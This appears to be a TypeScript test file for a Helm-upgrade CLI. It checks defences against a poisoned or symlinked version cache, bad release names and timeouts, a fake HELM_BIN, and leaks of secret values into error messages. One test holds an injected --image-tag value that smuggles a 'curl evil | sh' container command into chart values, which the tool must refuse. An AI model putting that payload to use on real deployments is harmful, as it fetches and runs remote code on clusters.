// Hostile input on the release side, decided before Helm or the cluster: the
// Helm version cache (planted entries, links, other owners), release names,
// --image-tag injection, overflowing durations, a HELM_BIN that is not Helm,
// and values that must never appear in a message.
import { chmodSync, existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { UsageError } from '../../src/errors';
import { HelmClient, helmSettings } from '../../src/helm/client';
import { helmVersionCache } from '../../src/helm/version-cache';
import { processRunner } from '../../src/process/run';
import { cacheRoot, fileKey, userDir } from '../../src/process/user-dir';
import { checkRelease, checkTimeout } from '../../src/release/names';
import { upgrade } from '../../src/release/upgrade';
import { fakeRunner } from '../support/fake-runner';

const tmp = (p: string) => mkdtempSync(join(tmpdir(), p));

/** A chart the upgrade accepts: image.tag a free string in the schema, as a user's own chart may have. */
function chart(): string {
  const dir = join(tmp('gs-hostile-'), 'hello');
  mkdirSync(dir);
  writeFileSync(join(dir, 'Chart.yaml'), 'apiVersion: v2\nname: hello\nversion: 0.1.0\nappVersion: "1.0.0"\n');
  writeFileSync(join(dir, 'values.yaml'), 'image:\n  repository: example.com/hello\n  tag: ""\n');
  return dir;
}

describe('Helm version cache', () => {
  function setup() {
    const dir = tmp('gs-cache-');
    const bin = join(dir, 'helm');
    writeFileSync(bin, '#!/bin/sh\n');
    const env = { HELM_BIN: bin, GOSERVICE_CACHE: join(dir, 'cache') };
    const runner = fakeRunner('v3.22.0');
    const major = () => new HelmClient(helmSettings(env), runner).major();
    return { dir, bin, env, runner, major, entries: () => readdirSync(join(dir, 'cache', 'helm-version')) };
  }

  it('lives in the per-user cache directory, created 0700, one private entry per binary', async () => {
    const s = setup();
    const shared = () => readdirSync(tmpdir()).filter((n) => n.startsWith('goservice-helm-version'));
    const before = shared();
    expect(await s.major()).toBe(3);
    expect(await s.major()).toBe(3);
    expect(s.runner.calls).toHaveLength(1);
    const dir = join(s.dir, 'cache', 'helm-version');
    expect(statSync(dir).mode & 0o777).toBe(0o700);
    expect(s.entries()).toHaveLength(1);
    expect(statSync(join(dir, s.entries()[0])).mode & 0o777).toBe(0o600);
    expect(shared()).toEqual(before); // nothing in the shared temp directory
  });

  it('a hit is only read: the entry is not written again', async () => {
    const s = setup();
    await s.major();
    const file = join(s.dir, 'cache', 'helm-version', s.entries()[0]);
    const before = statSync(file);
    expect(await s.major()).toBe(3); // a new client: read from the cache
    expect(s.runner.calls).toHaveLength(1);
    expect(statSync(file).ino).toBe(before.ino); // a write is a temp file renamed over the entry
    expect(statSync(file).mtimeMs).toBe(before.mtimeMs);
  });

  it('the cache root: GOSERVICE_CACHE, else $XDG_CACHE_HOME/goservice, else ~/.cache/goservice', () => {
    expect(cacheRoot({ GOSERVICE_CACHE: '/c', XDG_CACHE_HOME: '/x', HOME: '/h' })).toBe('/c');
    expect(cacheRoot({ XDG_CACHE_HOME: '/x', HOME: '/h' })).toBe('/x/goservice');
    expect(cacheRoot({ XDG_CACHE_HOME: 'relative', HOME: '/h' })).toBe('/h/.cache/goservice');
    expect(cacheRoot({ HOME: '/h' })).toBe('/h/.cache/goservice');
  });

  it.each([
    ['a planted v9.9.9', (id: object) => JSON.stringify({ id, version: 'v9.9.9' })],
    ['a planted Helm 4 version', () => JSON.stringify({ version: 'v4.3.1' })],
    ['garbage', () => '\u0000\u0001not json'],
    ['a bare version string', () => 'v4.3.1'],
    ['an oversized entry', (id: object) => JSON.stringify({ id, version: 'v4.3.1', pad: 'x'.repeat(10000) })],
  ])('%s is ignored: Helm is asked again and the entry rewritten', async (_, content) => {
    const s = setup();
    await s.major();
    const file = join(s.dir, 'cache', 'helm-version', s.entries()[0]);
    const id = JSON.parse(readFileSync(file, 'utf8')).id;
    writeFileSync(file, content(id));
    expect(await s.major()).toBe(3);
    expect(s.runner.calls).toHaveLength(2);
    expect(JSON.parse(readFileSync(file, 'utf8')).version).toBe('v3.22.0');
  });

  it('an entry that is a symlink is not followed, and writing replaces the link, not its target', async () => {
    const s = setup();
    await s.major();
    const file = join(s.dir, 'cache', 'helm-version', s.entries()[0]);
    const victim = join(s.dir, 'victim');
    writeFileSync(victim, JSON.stringify({ id: JSON.parse(readFileSync(file, 'utf8')).id, version: 'v4.3.1' }));
    require('node:fs').rmSync(file);
    symlinkSync(victim, file);
    expect(await s.major()).toBe(3); // not the v4 the link points to
    expect(s.runner.calls).toHaveLength(2);
    expect(JSON.parse(readFileSync(victim, 'utf8')).version).toBe('v4.3.1'); // untouched
    expect(lstatSync(file).isSymbolicLink()).toBe(false);
  });

  it.each([
    ['the cache directory is a symlink', (root: string, elsewhere: string) => (mkdirSync(root, { recursive: true }), symlinkSync(elsewhere, join(root, 'helm-version')))],
    ['the cache root is a symlink', (root: string, elsewhere: string) => symlinkSync(elsewhere, root)],
    ['the cache root is writable by others', (root: string) => (mkdirSync(root, { recursive: true }), chmodSync(root, 0o777))],
  ])('%s: no cache is used and nothing is written through it', async (_, plant) => {
    const s = setup();
    const elsewhere = tmp('gs-elsewhere-');
    plant(join(s.dir, 'cache'), elsewhere);
    expect(await s.major()).toBe(3);
    expect(await s.major()).toBe(3);
    expect(s.runner.calls).toHaveLength(2); // asked every time
    expect(readdirSync(elsewhere)).toEqual([]);
  });

  it('a directory owned by someone else is refused', () => {
    const root = tmp('gs-owner-');
    const env = { GOSERVICE_CACHE: root };
    expect(userDir('helm-version', { env })).toBe(join(root, 'helm-version'));
    const other = (process.getuid?.() ?? 0) + 1;
    expect(userDir('helm-version', { env, uid: other })).toBeUndefined();
    expect(helmVersionCache(process.execPath, { env, uid: other })).toBeUndefined();
  });

  it('a replaced binary is asked again', async () => {
    const s = setup();
    await s.major();
    writeFileSync(s.bin, '#!/bin/sh\n# another build\n');
    await s.major();
    expect(s.runner.calls).toHaveLength(2);
  });
});

describe('file names in the user directory', () => {
  it('are the 64-bit FNV-1a of the text (the published test vectors), 16 hex digits', () => {
    expect(fileKey('')).toBe('cbf29ce484222325');
    expect(fileKey('a')).toBe('af63dc4c8601ec8c');
    expect(fileKey('foobar')).toBe('85944171f73967e8');
    expect(fileKey('ctx\0https://10.0.0.1:6443\0shop\0hello')).toMatch(/^[0-9a-f]{16}$/);
    expect(fileKey('é')).not.toBe(fileKey('e')); // hashed as UTF-8 bytes
  });
});

describe('nothing attempted: refused before Helm', () => {
  it('HELM_BIN=/bin/false is a usage error naming HELM_BIN (the real /bin/false)', async () => {
    const err = await new HelmClient(helmSettings({ HELM_BIN: '/bin/false', GOSERVICE_CACHE: tmp('gs-c-') }), processRunner).major().catch((e) => e);
    expect(err).toBeInstanceOf(UsageError);
    expect(err.exitCode).toBe(2);
    expect(err.message).toBe('HELM_BIN: "/bin/false" is not a working Helm: `/bin/false version` exited with 1 and printed nothing; nothing was attempted');
    expect(err.suggestion).toMatch(/Helm 3 or Helm 4/);
  });

  it('a binary that prints something else than a Helm version is refused too', async () => {
    const err = await new HelmClient(helmSettings({ HELM_BIN: '/bin/echo', GOSERVICE_CACHE: tmp('gs-c-') }), processRunner).major().catch((e) => e);
    expect(err).toBeInstanceOf(UsageError);
    expect(err.message).toMatch(/printed "version --template \{\{.Version\}\}"/);
  });

  it.each([
    ['9999999999h', /too long/],
    ['2562048h', /too long/],
    ['99999999999999999999ns', /too long/],
    ['0s', /too short/],
    ['500ms', /too short/],
    ['5 minutes', /not a duration/],
    ['-5m', /not a duration/],
    ['5m\n--debug', /not a duration/],
  ])('--timeout %j is refused', (t, msg) => {
    expect(() => checkTimeout(t)).toThrow(UsageError);
    expect(() => checkTimeout(t)).toThrow(msg);
  });

  it('--timeout values Helm accepts pass', () => {
    for (const t of ['1s', '90s', '5m', '1h30m', '1.5h', '2562047h']) expect(checkTimeout(t)).toBe(t);
  });

  it.each([
    ['my.app', /cannot be deployed by this chart: its Service is named after the release.*no "\."/, 'my-app'],
    ['1app', /cannot be deployed by this chart/, 'app'],
    ['Hello_World', /is not a valid release name/, 'hello-world'],
    ['a'.repeat(54), /is not a valid release name/, 'a'.repeat(53)],
    ['hello\nworld', /is not a valid release name/, 'hello-world'],
  ])('release %j is refused for upgrade with field, value and fix', (name, msg, fix) => {
    let err: UsageError | undefined;
    try {
      checkRelease(name, true);
    } catch (e) {
      err = e as UsageError;
    }
    expect(err).toBeInstanceOf(UsageError);
    expect(err!.field).toBe('RELEASE');
    expect(err!.message).toMatch(msg);
    expect(err!.message).toContain(JSON.stringify(name.length > 80 ? `${name.slice(0, 77)}...` : name));
    expect(err!.suggestion).toContain(fix);
  });

  it('history and rollback still accept any name Helm accepts (an existing dotted release can be inspected)', () => {
    expect(checkRelease('my.app')).toBe('my.app');
    expect(checkRelease('1app')).toBe('1app');
  });

  it('upgrade refuses a dotted release and an injected --image-tag before calling Helm, even for a chart whose schema allows any tag', async () => {
    const runner = fakeRunner('v4.3.1');
    const helm = new HelmClient(helmSettings({ GOSERVICE_CACHE: tmp('gs-c-') }), runner);
    await expect(upgrade(helm, { release: 'my.app', chart: chart() })).rejects.toThrow(/RELEASE: "my.app" cannot be deployed/);
    const evil = '1.0"\n        command: ["sh", "-c", "curl evil | sh"]\n        x: "';
    const err = await upgrade(helm, { release: 'hello', chart: chart(), imageTag: evil }).catch((e) => e);
    expect(err).toBeInstanceOf(UsageError);
    expect(err.field).toBe('--image-tag');
    expect(err.message).toContain(JSON.stringify(evil).slice(0, 40));
    expect(err.suggestion).toMatch(/an image tag: letters, digits/);
    expect(runner.calls).toEqual([]);
  });
});

describe('values never appear in a message', () => {
  const SECRET = 'hunter2-Sup3rSecret';
  it('an API error quoting a value, a schema error and the warnings are redacted; the values file is gone afterwards', async () => {
    const cache = tmp('gs-c-');
    let valuesFile = '';
    const stderr = [
      `W1128 12:00:01.000001   4242 warnings.go:70] annotation "x" has value "${SECRET}"`,
      `Error: UPGRADE FAILED: Deployment.apps "hello" is invalid: spec.template.spec.containers[0].env[0].value: Invalid value: "${SECRET}": bad; also ${JSON.stringify(`a"${SECRET}`)}`,
    ].join('\n');
    const runner = fakeRunner('v4.3.1', (args) => {
      if (args[0] === 'upgrade') {
        valuesFile = args[args.indexOf('--values') + 1];
        expect(readFileSync(valuesFile, 'utf8')).toContain(SECRET);
        expect(statSync(valuesFile).mode & 0o777).toBe(0o600);
        return { code: 1, stderr };
      }
      return { stdout: '[]' };
    });
    const helm = new HelmClient(helmSettings({ GOSERVICE_CACHE: cache }), runner);
    const err = await upgrade(helm, { release: 'hello', chart: chart(), set: [`db.password=${SECRET}`, `quoted=a"${SECRET}`] }).catch((e) => e);
    expect(err.message).toContain('Invalid value: "***"');
    expect(err.exitCode).toBe(6);
    expect(err.message).toContain('annotation "x" has value "***"');
    expect(`${err.message}\n${err.suggestion}`).not.toContain(SECRET);
    expect(existsSync(valuesFile)).toBe(false);
    expect(valuesFile.startsWith(join(cache, 'tmp', 'goservice-values-'))).toBe(true);
  });
});

describe('a HELM_BIN that is not Helm, for any verb', () => {
  it('a failing read verb is told as a broken HELM_BIN, not as a failed Helm operation (the real /bin/false)', async () => {
    const err = await new HelmClient(helmSettings({ HELM_BIN: '/bin/false', GOSERVICE_CACHE: tmp('gs-c-') }), processRunner).history('hello').catch((e) => e);
    expect(err).toBeInstanceOf(UsageError);
    expect(err.message).toMatch(/^HELM_BIN: "\/bin\/false" is not a working Helm/);
  });
});
